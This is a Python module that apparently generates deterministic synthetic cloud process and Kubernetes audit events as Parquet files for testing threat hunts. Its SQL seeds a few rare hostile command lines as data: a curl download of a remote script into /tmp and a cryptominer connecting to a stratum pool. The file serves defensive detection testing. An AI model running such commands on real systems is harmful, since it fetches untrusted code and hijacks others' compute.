"""Ten days of synthetic events in the form of the store's cold days: Parquet files by table and day.

The distribution follows real clusters: few images cause most events, a handful of programs most
execs, command lines contain ids and paths that never repeat, and the matches of hunts are rare.
Values derive from hashes of the row number, so that every run has the same rows.
"""

from __future__ import annotations

import datetime
from pathlib import Path

import duckdb

from driftline.events import TABLES
from driftline.store.schema import COLUMN_TYPES, quoted

__all__ = ["DAYS", "FIRST", "make"]

FIRST = datetime.date(2026, 11, 1)
DAYS = 10

PROCESS = """
SELECT TIMESTAMPTZ '{day} 00:00:00+00' + to_microseconds((i * 86400000000) // {rows}) AS Timestamp,
  'registry.example/' || service || ':' || (1 + pod % 7) AS ContainerImageName,
  ['shop', 'pay', 'search', 'kube-system', 'batch'][1 + pod % 5] AS KubernetesNamespace,
  service || '-' || pod AS KubernetesPodName, 'Deployment/' || service AS KubernetesResource,
  service AS ContainerName, md5('c' || pod) || md5('d' || pod) AS ContainerId,
  CASE WHEN h % 10 < 4 THEN 'ProcessEnded' WHEN h % 100 = 99 THEN 'LibraryLoaded' ELSE 'ProcessCreated' END AS ActionType,
  program AS FileName, CASE WHEN drift THEN '/tmp' ELSE '/usr/bin' END AS FolderPath,
  1000 + i % 60000 AS ProcessId, program AS ProcessName, ['sh', 'runc', 'node', 'java'][1 + h % 4] AS ParentProcessName,
  CAST(1000 + h % 60000 AS VARCHAR) AS ParentProcessId,
  CASE WHEN program = 'curl' AND h % 997 = 0 THEN 'curl -fsSL http://203.0.113.' || h % 255 || '/i.sh -o /tmp/i'
       WHEN h % 200003 = 0 THEN './sysupdate -o stratum+tcp://203.0.113.7:3333 -u wallet' || h || ' --donate-level 1'
       WHEN program = 'curl' THEN 'curl -fsS http://' || service || '.shop.svc.cluster.local:8080/health?id=' || h
       WHEN program IN ('sh', 'bash') THEN program || ' -c ''/opt/' || service || '/bin/check --pod ' || pod || ' --seq ' || i || ' --token ' || md5('t' || i) || ''''
       WHEN program = 'java' THEN 'java -Xmx512m -Dservice=' || service || ' -Dspan=' || h || ' -cp /app/lib/*:/app/classes com.example.' || service || '.Main --port 8080'
       ELSE program || ' --config /etc/' || service || '/conf.yaml --id ' || h || ' --log-level info' END AS ProcessCommandLine,
  TIMESTAMPTZ '{day} 00:00:00+00' + to_microseconds((i * 86400000000) // {rows} - h % 5000) AS ProcessCreationTime,
  '/app' AS ProcessCurrentWorkingDirectory, CASE WHEN pod % 3 = 0 THEN 'root' ELSE '1000' END AS AccountName,
  '{{"NamespacePid":' || (1 + h % 400) || ',"UserId":' || (CASE WHEN pod % 3 = 0 THEN 0 ELSE 1000 END)
    || ',"Tags":["' || service || '","' || ['blue', 'green', 'canary'][1 + h % 3] || '"]}}' AS AdditionalFields,
  'prod-' || pod % 3 AS ClusterName, 'node-' || pod % 40 AS NodeName, 'sha256:' || md5(service) AS ImageDigest,
  md5(program) || md5(service) AS SHA256, 20000 + h % 1000000 AS FileSize,
  CASE WHEN drift THEN 'yes' ELSE 'no' END AS Drift, 'binary' AS DriftSubject,
  CASE WHEN drift THEN 'writable-layer' ELSE 'image' END AS DriftOrigin,
  CASE WHEN drift THEN 'added' ELSE 'identical' END AS DriftContent,
  'boot-' || (1000 + i % 60000) || '-' || i AS ProcessKey, 'boot-' || (h % 60000) || '-' || (i - h % 50) AS ParentProcessKey,
  '{{"app":"' || service || '","tier":"' || ['web', 'db'][1 + pod % 2] || '"}}' AS PodLabels
FROM (SELECT *, drift_h % 5000 = 0 AS drift,
    CASE WHEN drift_h % 5000 = 0 THEN ['nmap', 'k', 'sysupdate', 'x'][1 + drift_h % 4]
      ELSE ['sh', 'sh', 'bash', 'curl', 'java', 'node', 'cat', 'grep', 'sleep', 'date', 'ls', 'python3', 'ps', 'env', 'nginx', 'pg_isready'][1 + h % 16] END AS program,
    ['cart', 'catalog', 'gateway', 'ledger', 'mail', 'search', 'session', 'stock', 'user', 'worker'][1 + pod % 10] AS service
  FROM (SELECT i, (hash(i + {day_number} * 100000000) % 1000003)::BIGINT AS h, (hash(i * 7 + {day_number}) % 1000003)::BIGINT AS drift_h,
    least(hash(i * 13 + {day_number}) % 500, hash(i * 17 + {day_number}) % 500)::BIGINT AS pod FROM range({rows}) AS t(i)))
"""
AUDIT = """
SELECT TIMESTAMPTZ '{day} 00:00:00+00' + to_microseconds((i * 86400000000) // {rows}) AS Timestamp, md5('a' || i) AS ReportId,
  'Kubernetes Audit' AS DataSource, CASE WHEN h % 9 = 0 THEN 'Create' ELSE 'Read' END AS ActionType,
  '10.0.' || h % 200 || '.' || h % 250 AS IPAddress, 'kubectl/v1.34' AS UserAgent, 'prod-' || h % 3 AS ClusterName,
  '{{"verb":"' || (CASE WHEN h % 9 = 0 THEN 'create' ELSE 'get' END) || '","user":{{"username":"user-' || h % 80 || '"}},"objectRef":{{"resource":"'
    || ['pods', 'secrets', 'nodes', 'configmaps'][1 + h % 4] || '","subresource":"' || (CASE WHEN h % 180 = 0 THEN 'exec' ELSE '' END)
    || '","namespace":"' || ['shop', 'pay', 'search'][1 + h % 3] || '","name":"cart-' || h % 500 || '"}},"responseStatus":{{"code":200}}}}' AS RawEventData
FROM (SELECT i, (hash(i + {day_number}) % 1000003)::BIGINT AS h FROM range({rows}) AS t(i))
"""
# Table → (query, rows as a share of the process events).
SHARES = {"CloudProcessEvents": (PROCESS, 1.0), "CloudAuditEvents": (AUDIT, 0.05)}


def make(directory: Path, rows: int) -> dict[str, list[Path]]:
    """Make the files unless they exist; return the paths of each table, one for each day.

    ``rows`` is the number of process events over all days; present are a twentieth as many audit events.
    """
    with duckdb.connect(config={"threads": 2, "memory_limit": "2GB"}) as connection:
        connection.execute("SET TimeZone = 'UTC'")
        return {table: [_day(connection, table, directory, number, rows) for number in range(DAYS)] for table in SHARES}


def _day(connection: duckdb.DuckDBPyConnection, table: str, directory: Path, number: int, rows: int) -> Path:
    """Make the file of one day unless it exists; it appears under its name only when complete."""
    day = FIRST + datetime.timedelta(days=number)
    path = directory / str(rows) / f"{table}-{day}.parquet"
    if not path.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        select, share = SHARES[table]
        made = select.format(day=day, day_number=number, rows=int(rows * share) // DAYS)
        partial = path.with_suffix(".partial")
        connection.execute(
            f"COPY (SELECT {_columns(connection, table, made)} FROM ({made})) TO '{partial}' (FORMAT parquet, COMPRESSION zstd)"
        )
        partial.rename(path)
    return path


# The files have every column of the table, as the store's have: absent ones are empty or null.
def _columns(connection: duckdb.DuckDBPyConnection, table: str, made: str) -> str:
    present = {row[0] for row in connection.execute(f"DESCRIBE {made}").fetchall()}
    return ", ".join(_column(c.name, c.type, present) for c in TABLES[table].columns)


def _column(name: str, kind: str, present: set[str]) -> str:
    empty = {"string": "''", "dynamic": "'{}'"}.get(kind, "NULL")
    return f"CAST({quoted(name) if name in present else empty} AS {COLUMN_TYPES[kind]}) AS {quoted(name)}"
